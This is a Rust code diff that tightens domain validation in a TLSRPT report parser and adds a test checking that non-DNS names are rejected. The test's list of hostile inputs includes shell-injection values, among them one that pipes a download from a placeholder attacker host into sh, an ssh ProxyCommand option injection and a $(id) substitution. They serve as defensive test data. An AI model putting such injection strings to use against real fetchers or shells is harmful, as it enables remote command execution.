@@ -107,22 +107,52 @@ pub fn normalize_domain(domain: &str) -> String {
     }
 }
 
-/// Refuse domains that would break the line-based fetcher protocol or be
-/// taken for an option by a fetcher: empty, `.`, a leading `-`, whitespace
-/// or control characters. (Upstream stores them, and then its reportd gives
-/// up on the whole day's domain list.)
-pub fn check_domain(domain: &str) -> Result<(), Invalid> {
-    let bad = domain.is_empty()
-        || domain == "."
-        || domain.starts_with('-')
-        || domain.chars().any(|c| c.is_whitespace() || c.is_control());
-    if bad {
-        return Err(Invalid::BadValue {
-            key: "d".into(),
-            value: pyjson::dumps(&Value::from(domain)),
-        });
+/// Why `name` is not a DNS name as TLSRPT reports need one (RFC 1035
+/// section 2.3.4 lengths; RFC 5890 A-labels for internationalised names):
+/// only ASCII letters, digits, `-` and `_` (service labels such as
+/// `_smtp._tls`), labels separated by single dots, each of 1 to 63 octets,
+/// at most 253 octets in all, not starting with `-`.
+///
+/// Domains from datagrams and fetchers are strings strangers chose; they end
+/// up as fetcher arguments (a fetcher reached through `ssh` runs them through
+/// a remote shell), file names and mail addresses, so nothing else passes.
+pub fn check_dns_name(name: &str) -> Result<(), &'static str> {
+    if name.is_empty() {
+        return Err("empty");
+    }
+    if name.len() > 253 {
+        return Err("longer than 253 octets");
+    }
+    if name.starts_with('-') {
+        return Err("starts with '-'");
+    }
+    if !name
+        .bytes()
+        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
+    {
+        return Err("a character other than letters, digits, '-', '_' and '.' (internationalised names as A-labels)");
+    }
+    if name
+        .split('.')
+        .any(|label| label.is_empty() || label.len() > 63)
+    {
+        return Err("an empty label or one longer than 63 octets");
     }
     Ok(())
+}
+
+/// Refuses a datagram's `d` (or a policy's `policy-domain`, `key`) that is
+/// not a DNS name (see [`check_dns_name`]). Upstream stores anything.
+pub fn check_domain_of(key: &str, domain: &str) -> Result<(), Invalid> {
+    check_dns_name(domain).map_err(|_| Invalid::BadValue {
+        key: key.into(),
+        value: pyjson::dumps(&Value::from(domain)),
+    })
+}
+
+/// [`check_domain_of`] for the datagram's `d`.
+pub fn check_domain(domain: &str) -> Result<(), Invalid> {
+    check_domain_of("d", domain)
 }
 
 /// Parse and validate one datagram.
@@ -208,8 +238,9 @@ fn parse_policy(
         Some(_) => return Err(wrong_type(&at("policy-type"), "integer")),
     }
     if let Some(v) = policy.get("policy-domain") {
-        if !v.is_string() {
-            return Err(wrong_type(&at("policy-domain"), "string"));
+        match v.as_str() {
+            None => return Err(wrong_type(&at("policy-domain"), "string")),
+            Some(domain) => check_domain_of(&at("policy-domain"), &normalize_domain(domain))?,
         }
     }
     for key in ["policy-string", "mx-host"] {
@@ -326,6 +357,52 @@ mod tests {
             ]
         );
         assert!(!d.failure_count_mismatch);
+    }
+
+    /// Domains are DNS names: whatever else a datagram carries in `d` or
+    /// `policy-domain` (shell syntax for a fetcher behind ssh, an option for
+    /// a fetcher, U-labels, overlong labels) makes it invalid, in both
+    /// readers.
+    #[test]
+    fn domains_that_are_not_dns_names_make_the_datagram_invalid() {
+        let long_label = format!("{}.example", "a".repeat(64));
+        let long_name = format!("{}example", "abcdefghi.".repeat(25));
+        let hostile = [
+            "x.example;curl${IFS}evil.example|sh",
+            "-oProxyCommand=x",
+            "a b.example",
+            "bücher.example",
+            "a..example",
+            long_label.as_str(),
+            long_name.as_str(),
+            "x.example$(id)",
+            "x.example'\"",
+        ];
+        for domain in hostile {
+            let quoted = pyjson::dumps(&Value::from(domain));
+            let as_d = format!(r#"{{"dpv":"1","d":{quoted},"pr":"","policies":[]}}"#);
+            let as_policy_domain = format!(
+                r#"{{"dpv":"1","d":"ok.example","pr":"","policies":[{{"policy-type":1,"policy-domain":{quoted},"t":1,"f":0}}]}}"#
+            );
+            for datagram in [as_d, as_policy_domain] {
+                assert!(
+                    matches!(parse(datagram.as_bytes()), Err(Invalid::BadValue { .. })),
+                    "{datagram}"
+                );
+                assert!(crate::fast::parse_str(&datagram).is_none(), "{datagram}");
+            }
+        }
+        for domain in [
+            "_smtp._tls.example.com",
+            "xn--bcher-kva.example",
+            "MX1.Example.COM.",
+        ] {
+            let datagram = format!(
+                r#"{{"dpv":"1","d":"{domain}","pr":"","policies":[{{"policy-type":1,"policy-domain":"{domain}","t":1,"f":0}}]}}"#
+            );
+            assert!(parse(datagram.as_bytes()).is_ok(), "{datagram}");
+            assert!(crate::fast::parse_str(&datagram).is_some(), "{datagram}");
+        }
     }
 
     #[test]
